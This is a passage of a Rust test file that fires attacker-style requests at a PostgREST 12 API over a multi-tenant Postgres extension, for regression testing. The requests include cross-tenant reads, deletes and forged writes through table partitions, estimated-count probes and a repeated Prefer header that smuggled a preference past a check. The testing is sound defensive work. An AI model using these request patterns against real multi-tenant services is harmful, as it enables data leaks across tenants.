//! Adversarial requests through the real PostgREST 12 that `make test`
//! starts (common::http; issue 15): each test sends what an attacker would
//! send and asserts the exact answer, for the items fixed in 0.2.0 and the
//! classes around them.
//!
//! - partitions made without pg_saas (`LIKE` + `ATTACH`, `PARTITION OF`,
//!   sub-partitions, a partition attached with partitions of its own) and
//!   partitions pg_saas makes for a table protected by its own RLS, with
//!   Supabase-like default grants: read, update, delete and insert through
//!   the partition's own path (item 2);
//! - `Prefer: count=planned|estimated` on HEAD, views, partitions, in a
//!   list of preferences and in a repeated `Prefer` header (item 3);
//! - a removed member's token stops working at once; machine tokens do not
//!   depend on memberships (item 4);
//! - the daily quota under concurrent mixed GET/POST clients (item 6);
//! - every spelling of a path that PostgREST routes to the same function or
//!   table meets the same rate-limit counter (item 12);
//! - `X-Forwarded-For` hops a client invents choose neither the key of an
//!   `ip` rule nor the audit log's `client_ip` (item 13);
//! - an 8 KB bad `X-Tenant-Id` or tenant claim is cut in the error; the CSV
//!   audit export neutralises formulas (item 14);
//! - side channels: another tenant's row ids and tenant ids answer exactly
//!   as random ones; embedding, exact counts, upserts and
//!   `return=representation` show nothing of another tenant.
//!
//! Requests whose bytes matter (unnormalised paths, repeated headers) go
//! through [`raw`], a minimal HTTP/1.0 client: the URL parser behind ureq
//! removes `./` segments and a header set twice keeps one value.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use common::http::{Http, HttpRequest, HttpResponse};
use common::random_uuid;
use serde_json::{json, Value};
use tokio_postgres::Client;

macro_rules! http_or_skip {
    ($name:expr) => {{
        let Some(http) = Http::from_env($name) else {
            return;
        };
        let Some(admin) = common::connect($name).await else {
            return;
        };
        (http, admin)
    }};
}

/// [`common::shared_setup`], retried when it loses a deadlock: DDL on
/// several existing relations (dropping a partitioned table from an
/// earlier run, `enable_tenancy` on every partition) can meet the
/// schema-cache reload another test's `NOTIFY pgrst` starts, whose query
/// opens each relation of the exposed schemas.
async fn setup(admin: &Client, sql: &str) -> Result<(), tokio_postgres::Error> {
    for attempt in 1.. {
        match common::shared_setup(admin, sql).await {
            Err(e)
                if attempt < 5
                    && e.code()
                        == Some(&tokio_postgres::error::SqlState::T_R_DEADLOCK_DETECTED) =>
            {
                admin.batch_execute("ROLLBACK").await?;
            }
            other => return other,
        }
    }
    unreachable!()
}

/// Runs `sql` as the shared fixture transaction with Supabase's default
/// grants in force: every table made in `http_api` by it gets ALL for
/// `anon` and `authenticated` (`ALTER DEFAULT PRIVILEGES`, revoked again
/// before the commit, so other tests' tables are not affected), then waits
/// until PostgREST serves `wait_for`.
async fn fixture_with_default_grants(admin: &Client, http: &Http, sql: &str, wait_for: &str) {
    setup(
        admin,
        &format!(
            "ALTER DEFAULT PRIVILEGES IN SCHEMA http_api GRANT ALL ON TABLES TO anon, authenticated;
             {sql}
             ALTER DEFAULT PRIVILEGES IN SCHEMA http_api REVOKE ALL ON TABLES FROM anon, authenticated;"
        ),
    )
    .await
    .unwrap_or_else(|e| panic!("fixture for {wait_for}: {}", common::pg_err(&e)));
    http.wait_until_served(admin, wait_for).await;
}

/// A plain fixture: `sql` in the shared setup transaction, then the wait.
async fn fixture(admin: &Client, http: &Http, sql: &str, wait_for: &str) {
    setup(admin, sql)
        .await
        .unwrap_or_else(|e| panic!("fixture for {wait_for}: {}", common::pg_err(&e)));
    http.wait_until_served(admin, wait_for).await;
}

/// A tenant (`plan`, `status`) with members `(user, role)`.
async fn tenant(admin: &Client, id: &str, plan: &str, status: &str, members: &[(&str, &str)]) {
    let mut sql = format!(
        "INSERT INTO saas.tenants (id, slug, name, plan, status) VALUES ('{id}', 'adv-{s}', 'adv {s}', '{plan}', '{status}');",
        s = &id[0..8]
    );
    for (user, role) in members {
        sql.push_str(&format!(
            "INSERT INTO saas.memberships (tenant_id, user_id, role) VALUES ('{id}', '{user}', '{role}');"
        ));
    }
    common::shared_setup(admin, &sql)
        .await
        .unwrap_or_else(|e| panic!("tenant {id}: {}", common::pg_err(&e)));
}

fn user(sub: &str, tenant: Option<&str>) -> Value {
    match tenant {
        Some(t) => json!({"sub": sub, "role": "authenticated", "tenant_id": t}),
        None => json!({"sub": sub, "role": "authenticated"}),
    }
}

/// A column of a response's rows, sorted.
fn column(r: &HttpResponse, name: &str) -> Vec<String> {
    let mut v: Vec<String> = r
        .rows()
        .iter()
        .map(|row| row[name].as_str().unwrap_or_default().to_string())
        .collect();
    v.sort();
    v
}

async fn count(admin: &Client, sql: &str) -> i64 {
    admin
        .query_one(sql, &[])
        .await
        .unwrap_or_else(|e| panic!("{sql}: {}", common::pg_err(&e)))
        .get(0)
}

/// What [`raw`] got back.
#[derive(Debug)]
struct RawResponse {
    request: String,
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl RawResponse {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> Value {
        serde_json::from_str(&self.body)
            .unwrap_or_else(|e| panic!("{}: body is not JSON ({e}): {}", self.request, self.body))
    }

    #[track_caller]
    fn expect(&self, status: u16) -> &Self {
        assert_eq!(
            self.status, status,
            "{}: expected {status}, got {} {}",
            self.request, self.status, self.body
        );
        self
    }
}

/// One HTTP/1.0 request with exactly this request target and these header
/// lines (repeats kept, nothing normalised), on a blocking thread.
async fn raw(
    http: &Http,
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: Option<&str>,
) -> RawResponse {
    let addr = http
        .base
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let mut msg = format!("{method} {target} HTTP/1.0\r\nHost: {addr}\r\n");
    for (k, v) in headers {
        msg.push_str(&format!("{k}: {v}\r\n"));
    }
    if let Some(b) = body {
        msg.push_str(&format!(
            "Content-Type: application/json\r\nContent-Length: {}\r\n",
            b.len()
        ));
    }
    msg.push_str("\r\n");
    if let Some(b) = body {
        msg.push_str(b);
    }
    let request = format!("{method} {target}");
    tokio::task::spawn_blocking(move || {
        let mut s = TcpStream::connect(&addr).unwrap_or_else(|e| panic!("connect {addr}: {e}"));
        s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        s.write_all(msg.as_bytes()).unwrap();
        let mut buf = Vec::new();
        s.read_to_end(&mut buf)
            .unwrap_or_else(|e| panic!("{request}: {e}"));
        let text = String::from_utf8_lossy(&buf).to_string();
        let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
        let mut lines = head.lines();
        let status: u16 = lines
            .next()
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("{request}: no status line in {text:?}"));
        let headers = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
            .collect();
        RawResponse {
            request,
            status,
            headers,
            body: body.to_string(),
        }
    })
    .await
    .expect("raw request thread")
}

// ---------------------------------------------------------------------------
// Item 2: partitions made without pg_saas, and pg_saas's partitions of a
// table with its own RLS.
// ---------------------------------------------------------------------------

/// Tenant A's user and anonymous callers go at a tenancy table's partitions
/// by their own paths: partitions made with `PARTITION OF` (also of a
/// sub-partitioned partition) carry the tenant policies; partitions
/// attached with `ATTACH PARTITION` (pg_partman's `LIKE` + ATTACH, and a
/// partitioned table with a partition of its own, attached whole) have
/// forced RLS and no policy until `enable_tenancy` runs again: closed.
/// Nothing of B's is read, changed or deleted through any of them; after
/// `enable_tenancy` again the attached ones show A exactly A's rows.
#[tokio::test]
async fn adv_partitions_made_without_pg_saas_do_not_open_other_tenants_rows() {
    let (http, admin) =
        http_or_skip!("adv_partitions_made_without_pg_saas_do_not_open_other_tenants_rows");
    let (a, b, ua) = (random_uuid(), random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&ua, "member")]).await;
    tenant(&admin, &b, "adv-unlimited", "active", &[]).await;
    let t = "adv_pt";
    fixture_with_default_grants(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t}, http_api.{t}_like, http_api.{t}_lsub CASCADE;
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 region text NOT NULL, label text NOT NULL, PRIMARY KEY (tenant_id, id, region))
               PARTITION BY LIST (region);
             SELECT saas.enable_tenancy('http_api.{t}');
             -- made by CREATE TABLE ... PARTITION OF
             CREATE TABLE http_api.{t}_of PARTITION OF http_api.{t} FOR VALUES IN ('of');
             -- pg_partman style: LIKE, then ATTACH
             CREATE TABLE http_api.{t}_like (LIKE http_api.{t} INCLUDING DEFAULTS);
             ALTER TABLE http_api.{t} ATTACH PARTITION http_api.{t}_like FOR VALUES IN ('like');
             -- a sub-partitioned partition: one leaf PARTITION OF, one attached
             CREATE TABLE http_api.{t}_sub PARTITION OF http_api.{t} FOR VALUES IN ('s1', 's2')
               PARTITION BY LIST (region);
             CREATE TABLE http_api.{t}_s1 PARTITION OF http_api.{t}_sub FOR VALUES IN ('s1');
             CREATE TABLE http_api.{t}_s2 (LIKE http_api.{t} INCLUDING DEFAULTS);
             ALTER TABLE http_api.{t}_sub ATTACH PARTITION http_api.{t}_s2 FOR VALUES IN ('s2');
             -- a partitioned table with a leaf of its own, attached whole
             CREATE TABLE http_api.{t}_lsub (LIKE http_api.{t} INCLUDING DEFAULTS) PARTITION BY LIST (region);
             CREATE TABLE http_api.{t}_l1 PARTITION OF http_api.{t}_lsub FOR VALUES IN ('l1');
             ALTER TABLE http_api.{t} ATTACH PARTITION http_api.{t}_lsub FOR VALUES IN ('l1');
             INSERT INTO http_api.{t} (tenant_id, region, label)
               SELECT tn, r, l || '-' || r
               FROM unnest(ARRAY['{a}'::uuid, '{b}'::uuid], ARRAY['a', 'b']) AS x(tn, l),
                    unnest(ARRAY['of', 'like', 's1', 's2', 'l1']) AS r;"
        ),
        &format!("/{t}"),
    )
    .await;
    let token = http.token(&user(&ua, Some(&a)));
    let b_rows = || async {
        let rows = admin
            .query(
                &format!("SELECT label FROM http_api.{t} WHERE tenant_id = '{b}' ORDER BY label"),
                &[],
            )
            .await
            .unwrap();
        rows.iter()
            .map(|r| r.get::<_, String>(0))
            .collect::<Vec<_>>()
    };
    let b_before = b_rows().await;
    assert_eq!(b_before.len(), 5);

    // (partition, its regions, whether it has the tenant policies)
    let parts: [(&str, &[&str], bool); 7] = [
        ("of", &["of"], true),
        ("sub", &["s1", "s2"], true),
        ("s1", &["s1"], true),
        ("like", &["like"], false),
        ("s2", &["s2"], false),
        ("lsub", &["l1"], false),
        ("l1", &["l1"], false),
    ];
    for (p, regions, policies) in parts {
        let path = format!("/{t}_{p}");
        let mine: Vec<String> = if policies {
            let mut v: Vec<String> = regions.iter().map(|r| format!("a-{r}")).collect();
            v.sort();
            v
        } else {
            Vec::new()
        };
        // Reads: A sees A's rows (or none while closed), anon none.
        let r = http
            .get(&format!("{path}?order=label"))
            .bearer(&token)
            .send()
            .await;
        assert_eq!(column(r.expect_status(200), "label"), mine, "GET {path}");
        let r = http.get(&path).send().await;
        assert_eq!(column(r.expect_status(200), "label"), Vec::<String>::new());
        // B's rows by filter: nothing.
        let r = http
            .get(&format!("{path}?tenant_id=eq.{b}"))
            .bearer(&token)
            .send()
            .await;
        assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new(), "{path}");
        // Deletes aimed at B's rows, by A and anonymously: nothing matched,
        // nothing counted.
        for req in [
            http.delete(&format!("{path}?tenant_id=eq.{b}"))
                .bearer(&token),
            http.delete(&format!("{path}?label=like.b-*"))
                .bearer(&token),
            http.delete(&path),
        ] {
            let r = req.prefer("return=representation,count=exact").send().await;
            assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new(), "{path}");
            assert_eq!(r.header("Content-Range"), Some("*/0"), "{path}");
        }
        // PATCH, PUT and POST: PostgREST 12 keeps partitions out of its
        // schema cache and answers 404 before any SQL runs (were they
        // served, RLS above would answer as for the deletes).
        for req in [
            http.patch(
                &format!("{path}?tenant_id=eq.{b}"),
                &json!({"label": "pwned"}),
            )
            .bearer(&token),
            http.patch(&path, &json!({"label": "pwned"})),
            http.patch(&path, &json!({"tenant_id": b})).bearer(&token),
            http.post(
                &path,
                &json!({"tenant_id": b, "region": regions[0], "label": "forged"}),
            )
            .bearer(&token),
            http.post(
                &path,
                &json!({"tenant_id": b, "region": regions[0], "label": "forged"}),
            ),
        ] {
            let r = req.send().await;
            assert_eq!(r.status, 404, "{} {path}: {}", r.method, r.body);
        }
    }
    assert_eq!(b_rows().await, b_before, "B's rows after the attacks");

    // enable_tenancy again gives the attached partitions the policies: A's
    // rows there, still none of B's.
    setup(
        &admin,
        &format!("SELECT saas.enable_tenancy('http_api.{t}');"),
    )
    .await
    .unwrap();
    for (p, region) in [("like", "like"), ("s2", "s2"), ("l1", "l1")] {
        let r = http.get(&format!("/{t}_{p}")).bearer(&token).send().await;
        assert_eq!(
            column(r.expect_status(200), "label"),
            vec![format!("a-{region}")],
            "/{t}_{p} after enable_tenancy"
        );
    }
    assert_eq!(b_rows().await, b_before);
}

/// A table protected by its own RLS policy (rows of their owner), not by
/// `enable_tenancy`, partitioned by `create_monthly_partitions` and
/// `run_maintenance` (premade months, the default partition, a month
/// rescued from the default, which is made standalone then attached), with
/// Supabase's default grants on every partition: no partition's own path
/// shows, changes or deletes another user's rows.
#[tokio::test]
async fn adv_partitions_of_a_table_with_its_own_rls_keep_the_parents_rls() {
    let (http, admin) =
        http_or_skip!("adv_partitions_of_a_table_with_its_own_rls_keep_the_parents_rls");
    let (x, y) = (random_uuid(), random_uuid());
    let t = "adv_own";
    fixture_with_default_grants(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t} CASCADE;
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), owner uuid NOT NULL,
                 at timestamptz NOT NULL, label text NOT NULL, PRIMARY KEY (id, at))
               PARTITION BY RANGE (at);
             ALTER TABLE http_api.{t} ENABLE ROW LEVEL SECURITY;
             CREATE POLICY own_rows ON http_api.{t}
               USING (owner = (SELECT saas.current_user_id()))
               WITH CHECK (owner = (SELECT saas.current_user_id()));
             SELECT count(*) FROM saas.create_monthly_partitions('http_api.{t}', 'at', premake => 1,
               p_now => '2026-11-15 00:00:00+00');
             INSERT INTO http_api.{t} (owner, at, label)
               SELECT o, m, l || to_char(m, '-YYYY-MM')
               FROM unnest(ARRAY['{x}'::uuid, '{y}'::uuid], ARRAY['x', 'y']) AS u(o, l),
                    unnest(ARRAY['2026-11-03', '2026-12-03', '2027-06-03', '2031-01-03']::timestamptz[]) AS m;
             -- 2027-06 waits in the default partition until maintenance rescues it.
             SELECT count(*) FROM saas.run_maintenance('http_api.{t}', p_now => '2027-06-10 00:00:00+00');"
        ),
        &format!("/{t}"),
    )
    .await;
    let leaves: Vec<String> = admin
        .query(
            &format!(
                "SELECT c.relname::text FROM pg_partition_tree('http_api.{t}') p
                 JOIN pg_class c ON c.oid = p.relid WHERE p.isleaf ORDER BY 1"
            ),
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    for must in ["default", "p2026_11", "p2026_12", "p2027_06", "p2027_07"] {
        assert!(
            leaves.contains(&format!("{t}_{must}")),
            "{must} in {leaves:?}"
        );
    }
    // Every partition got the grants (the attack needs them).
    assert_eq!(
        count(
            &admin,
            &format!(
                "SELECT count(*) FROM pg_partition_tree('http_api.{t}') p
                 WHERE p.isleaf AND NOT has_table_privilege('anon', p.relid, 'SELECT, UPDATE, DELETE')"
            )
        )
        .await,
        0
    );
    let tx = http.token(&user(&x, None));
    // Through the parent: X's rows, by the table's own policy.
    let r = http
        .get(&format!("/{t}?order=label"))
        .bearer(&tx)
        .send()
        .await;
    assert_eq!(
        column(r.expect_status(200), "label"),
        ["x-2026-11", "x-2026-12", "x-2027-06", "x-2031-01"]
    );
    let y_before = count(
        &admin,
        &format!("SELECT count(*) FROM http_api.{t} WHERE owner = '{y}' AND label LIKE 'y-%'"),
    )
    .await;
    assert_eq!(y_before, 4);
    for leaf in &leaves {
        let path = format!("/{leaf}");
        // A partition answers no one: the parent's RLS is on, and without
        // the parent's policy nothing is visible (never Y's rows).
        for req in [http.get(&path).bearer(&tx), http.get(&path)] {
            let r = req.send().await;
            assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new(), "{path}");
        }
        // Not served for writes but DELETE (404: not in PostgREST's cache).
        let r = http
            .patch(&path, &json!({"label": "pwned"}))
            .bearer(&tx)
            .send()
            .await;
        assert_eq!(r.status, 404, "PATCH {path}: {}", r.body);
        let r = http
            .delete(&format!("{path}?owner=eq.{y}"))
            .bearer(&tx)
            .prefer("return=representation")
            .send()
            .await;
        assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new(), "{path}");
        let r = http
            .delete(&path)
            .prefer("return=representation")
            .send()
            .await;
        assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new(), "{path}");
        // Count: exact counts what the caller sees, zero.
        let r = http
            .get(&path)
            .bearer(&tx)
            .prefer("count=exact")
            .send()
            .await;
        assert_eq!(r.expect_status(200).header("Content-Range"), Some("*/0"));
    }
    // Nothing of anyone's changed.
    assert_eq!(
        count(
            &admin,
            &format!("SELECT count(*) FROM http_api.{t} WHERE label LIKE 'pwned%'")
        )
        .await,
        0
    );
    assert_eq!(
        count(
            &admin,
            &format!("SELECT count(*) FROM http_api.{t} WHERE owner = '{y}' AND label LIKE 'y-%'")
        )
        .await,
        y_before
    );
}

// ---------------------------------------------------------------------------
// Item 3: estimated counts.
// ---------------------------------------------------------------------------

/// `count=planned` and `count=estimated` are refused on every way to a
/// table's statistics: HEAD, a view, a partition (and its parent), in a
/// list of preferences; an RPC keeps them.
#[tokio::test]
async fn adv_estimated_counts_are_refused_on_head_views_and_partitions() {
    let (http, admin) =
        http_or_skip!("adv_estimated_counts_are_refused_on_head_views_and_partitions");
    let (a, b, ua) = (random_uuid(), random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&ua, "member")]).await;
    tenant(&admin, &b, "adv-unlimited", "active", &[]).await;
    let t = "adv_cnt";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP VIEW IF EXISTS http_api.{t}_v CASCADE;
             DROP TABLE IF EXISTS http_api.{t} CASCADE;
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 region text NOT NULL, label text NOT NULL, PRIMARY KEY (tenant_id, id, region))
               PARTITION BY LIST (region);
             CREATE TABLE http_api.{t}_eu PARTITION OF http_api.{t} FOR VALUES IN ('eu');
             SELECT saas.enable_tenancy('http_api.{t}');
             CREATE VIEW http_api.{t}_v WITH (security_invoker = true) AS SELECT id, tenant_id, label FROM http_api.{t};
             GRANT SELECT, INSERT, UPDATE, DELETE ON http_api.{t}, http_api.{t}_eu, http_api.{t}_v TO authenticated;
             CREATE OR REPLACE FUNCTION http_api.{t}_fn() RETURNS SETOF http_api.{t}_v
               LANGUAGE sql STABLE ROWS 7 AS $$ SELECT * FROM http_api.{t}_v $$;
             GRANT EXECUTE ON FUNCTION http_api.{t}_fn() TO authenticated;
             INSERT INTO http_api.{t} (tenant_id, region, label)
               SELECT '{a}'::uuid, 'eu', 'a' || g FROM generate_series(1, 2) g
               UNION ALL SELECT '{b}'::uuid, 'eu', 'b' || g FROM generate_series(1, 40) g;
             ANALYZE http_api.{t};"
        ),
        &format!("/rpc/{t}_fn"),
    )
    .await;
    http.wait_until_served(&admin, &format!("/{t}_v")).await;
    let token = http.token(&user(&ua, Some(&a)));
    for path in [
        format!("/{t}"),
        format!("/{t}_eu"),
        format!("/{t}_v"),
        format!("/{t}_v?label=like.b*"),
    ] {
        for prefer in [
            "count=planned",
            "count=estimated",
            "return=representation, count=planned",
            "count=estimated,handling=lenient",
        ] {
            let r = http.get(&path).bearer(&token).prefer(prefer).send().await;
            r.expect_status(400);
            let e = r.error();
            assert_eq!(e.code, "PT400", "GET {path} {prefer}: {}", r.body);
            let d: Value = serde_json::from_str(&e.details.unwrap()).unwrap();
            assert_eq!(d["reason"], json!("estimated_count"));
            assert!(r.header("Content-Range").is_none(), "{:?}", r.headers);
            // HEAD: the same refusal, without a body (and no Content-Range).
            let r = http.head(&path).bearer(&token).prefer(prefer).send().await;
            assert_eq!(r.status, 400, "HEAD {path} {prefer}");
            assert!(r.header("Content-Range").is_none(), "{:?}", r.headers);
        }
        // Anonymous callers are refused alike.
        http.get(&path)
            .prefer("count=planned")
            .send()
            .await
            .expect_status(400);
        // count=exact: what the caller sees.
        let r = http
            .get(&path)
            .bearer(&token)
            .prefer("count=exact")
            .send()
            .await;
        r.expect_status(200);
        let seen = r.rows().len();
        assert_eq!(
            r.header("Content-Range"),
            Some(if seen == 0 {
                "*/0".to_string()
            } else {
                format!("0-{}/{seen}", seen - 1)
            })
            .as_deref()
        );
        assert!(seen <= 2, "{path}: {}", r.body);
    }
    // An RPC's estimate is its declared ROWS: served.
    let r = http
        .get(&format!("/rpc/{t}_fn"))
        .bearer(&token)
        .prefer("count=planned")
        .send()
        .await;
    r.expect_status(200);
    assert_eq!(r.rows().len(), 2, "{}", r.body);
}

/// `Prefer` sent twice: PostgREST reads every `Prefer` header, but
/// `request.headers` holds only the last one, so `pre_request` never saw
/// the `count=planned` of the first and PostgREST answered it from the
/// planner's statistics of every tenant's rows.
#[tokio::test]
async fn adv_estimated_count_in_a_repeated_prefer_header_is_refused() {
    let (http, admin) = http_or_skip!("adv_estimated_count_in_a_repeated_prefer_header_is_refused");
    let (a, b, ua) = (random_uuid(), random_uuid(), random_uuid());
    tenant(&admin, &a, "adv-unlimited", "active", &[(&ua, "member")]).await;
    tenant(&admin, &b, "adv-unlimited", "active", &[]).await;
    let t = "adv_cnt2";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             GRANT SELECT ON http_api.{t} TO authenticated;
             INSERT INTO http_api.{t} (tenant_id, label)
               SELECT '{a}'::uuid, 'a' || g FROM generate_series(1, 2) g
               UNION ALL SELECT '{b}'::uuid, 'b' || g FROM generate_series(1, 400) g;
             ANALYZE http_api.{t};"
        ),
        &format!("/{t}"),
    )
    .await;
    let auth = format!("Bearer {}", http.token(&user(&ua, Some(&a))));
    for (first, second) in [
        ("count=planned", "return=minimal"),
        ("count=estimated", "handling=lenient"),
        ("return=minimal", "count=planned"),
    ] {
        let r = raw(
            &http,
            "GET",
            &format!("/{t}?select=label"),
            &[
                ("Authorization", &auth),
                ("Prefer", first),
                ("Prefer", second),
            ],
            None,
        )
        .await;
        // pre_request refuses what request.headers shows (the last Prefer);
        // an estimate asked in an earlier one is refused where PostgREST
        // makes it, at its EXPLAIN (42501, 403).
        let code = r.json()["code"].clone();
        assert!(
            (r.status, &code) == (400, &json!("PT400"))
                || (r.status, &code) == (403, &json!("42501")),
            "Prefer: {first} + Prefer: {second}: {r:?}"
        );
        assert_eq!(r.header("Content-Range"), None, "{r:?}");
    }
}

// ---------------------------------------------------------------------------
// Item 4: removed members.
// ---------------------------------------------------------------------------

/// A member's token names the tenant; after the membership row is deleted
/// the very next request with the same token is refused (403), by claim or
/// by header, and the workspace list no longer shows it. Machine tokens
/// (no `sub`, or a `sub` that is not a uuid) are scoped by the claim alone
/// and keep working; a machine token of a deleted tenant sees nothing.
#[tokio::test]
async fn adv_removed_member_loses_access_on_the_next_request() {
    let (http, admin) = http_or_skip!("adv_removed_member_loses_access_on_the_next_request");
    let (a, gone, keep) = (random_uuid(), random_uuid(), random_uuid());
    tenant(
        &admin,
        &a,
        "adv-unlimited",
        "active",
        &[(&gone, "admin"), (&keep, "member")],
    )
    .await;
    let t = "adv_member_items";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             GRANT SELECT, INSERT ON http_api.{t} TO authenticated;
             INSERT INTO http_api.{t} (tenant_id, label) VALUES ('{a}', 'a1');"
        ),
        &format!("/{t}"),
    )
    .await;
    let path = format!("/{t}");
    let by_claim = http.token(&user(&gone, Some(&a)));
    let by_header = http.token(&user(&gone, None));
    let machine = http.token(&json!({"role": "authenticated", "tenant_id": a}));
    let machine_sub =
        http.token(&json!({"sub": "svc-importer", "role": "authenticated", "tenant_id": a}));
    // Warm every pooled connection with the member's tokens first.
    for _ in 0..12 {
        let r = http.get(&path).bearer(&by_claim).send().await;
        assert_eq!(column(r.expect_status(200), "label"), ["a1"]);
        let r = http.get(&path).bearer(&by_header).tenant(&a).send().await;
        assert_eq!(column(r.expect_status(200), "label"), ["a1"]);
    }
    admin
        .execute(
            "DELETE FROM saas.memberships WHERE tenant_id = $1::text::uuid AND user_id = $2::text::uuid",
            &[&a, &gone],
        )
        .await
        .unwrap();
    for _ in 0..12 {
        for r in [
            http.get(&path).bearer(&by_claim).send().await,
            http.get(&path).bearer(&by_header).tenant(&a).send().await,
            http.post(&path, &json!({"label": "after"}))
                .bearer(&by_claim)
                .send()
                .await,
        ] {
            r.expect_status(403);
            assert_eq!(r.error().code, "42501", "{}", r.body);
            assert!(!r.body.contains("\"a1\""), "{}", r.body);
        }
    }
    // The export for the removed admin: 403 too.
    let r = http
        .get("/rpc/audit_export?p_from=2000-01-01&p_to=3000-01-01")
        .header("Accept-Profile", "saas_api")
        .bearer(&by_claim)
        .send()
        .await;
    r.expect_status(403);
    let r = http
        .get("/rpc/my_memberships")
        .header("Accept-Profile", "saas_api")
        .bearer(&by_header)
        .send()
        .await;
    assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new());
    // The remaining member and the machine tokens are unaffected.
    let r = http.get(&path).claims(&user(&keep, Some(&a))).send().await;
    assert_eq!(column(r.expect_status(200), "label"), ["a1"]);
    for token in [&machine, &machine_sub] {
        let r = http.get(&path).bearer(token).send().await;
        assert_eq!(column(r.expect_status(200), "label"), ["a1"]);
    }
    for token in [&machine, &machine_sub] {
        http.post(&path, &json!({"label": "m"}))
            .bearer(token)
            .send()
            .await
            .expect_status(201);
    }
    assert_eq!(
        count(
            &admin,
            &format!("SELECT count(*) FROM http_api.{t} WHERE label = 'after'")
        )
        .await,
        0
    );
    // A machine token of a tenant that no longer exists: nothing (deny),
    // though the tenant's rows are still in the table.
    admin
        .execute("DELETE FROM saas.tenants WHERE id = $1::text::uuid", &[&a])
        .await
        .unwrap();
    let r = http.get(&path).bearer(&machine).send().await;
    assert_eq!(r.expect_status(200).rows(), Vec::<Value>::new());
}

// ---------------------------------------------------------------------------
// Item 6: the daily quota under concurrent mixed traffic.
// ---------------------------------------------------------------------------

/// 8 clients at once, each alternating GET and POST, 48 requests against a
/// quota of 13: exactly 13 are served, the other 35 get 402 with the JSON
/// details, and the table holds exactly the served POSTs' rows.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn adv_daily_quota_is_exact_under_concurrent_mixed_requests() {
    let (http, admin) = http_or_skip!("adv_daily_quota_is_exact_under_concurrent_mixed_requests");
    let (a, ua) = (random_uuid(), random_uuid());
    let plan = format!("adv-q-{}", &a[0..8]);
    const QUOTA: usize = 13;
    admin
        .execute(
            "INSERT INTO saas.plans (plan, api_calls_per_day) VALUES ($1, $2)",
            &[&plan, &(QUOTA as i64)],
        )
        .await
        .unwrap();
    let t = "adv_quota_items";
    fixture(
        &admin,
        &http,
        &format!(
            "DROP TABLE IF EXISTS http_api.{t};
             CREATE TABLE http_api.{t} (id uuid NOT NULL DEFAULT gen_random_uuid(), tenant_id uuid NOT NULL,
                 label text NOT NULL, PRIMARY KEY (tenant_id, id));
             SELECT saas.enable_tenancy('http_api.{t}');
             GRANT SELECT, INSERT ON http_api.{t} TO authenticated;"
        ),
        &format!("/{t}"),
    )
    .await;
    // The tenant only now: the schema wait sends no request of it.
    tenant(&admin, &a, &plan, "active", &[(&ua, "member")]).await;
    let token = http.token(&user(&ua, Some(&a)));
    let path = format!("/{t}");
    let barrier = std::sync::Arc::new(std::sync::Barrier::new(8));
    let handles: Vec<_> = (0..8)
        .map(|c| {
            let (http, token, path, barrier) =
                (http.clone(), token.clone(), path.clone(), barrier.clone());
            std::thread::spawn(move || {
                barrier.wait();
                (0..6)
                    .map(|i| {
                        let post = (c + i) % 2 == 0;
                        let r = if post {
                            http.post(&path, &json!({"label": format!("c{c}-{i}")}))
                        } else {
                            http.get(&path)
                        };
                        (post, r.bearer(&token).send_blocking())
                    })
                    .collect::<Vec<_>>()
            })
        })
        .collect();
    let mut served = 0;
    let mut posted = 0;
    let mut refused = 0;
    for h in handles {
        for (post, r) in h.join().expect("client thread") {
            match r.status {
                200 | 201 => {
                    served += 1;
                    posted += usize::from(post);
                    assert_eq!(r.status, if post { 201 } else { 200 });
                }
                402 => {
                    refused += 1;
                    let e = r.error();
                    assert_eq!(e.code, "PT402");
                    let d: Value = serde_json::from_str(&e.details.expect("details")).unwrap();
                    assert_eq!(d["reason"], json!("quota_exhausted"), "{d}");
                    assert_eq!(d["plan"], json!(plan), "{d}");
                    assert_eq!(d["limit"].as_u64(), Some(QUOTA as u64), "{d}");
                    assert_eq!(d["remaining"].as_u64(), Some(0), "{d}");
                    assert!(r.header("Retry-After").is_some(), "{:?}", r.headers);
                }
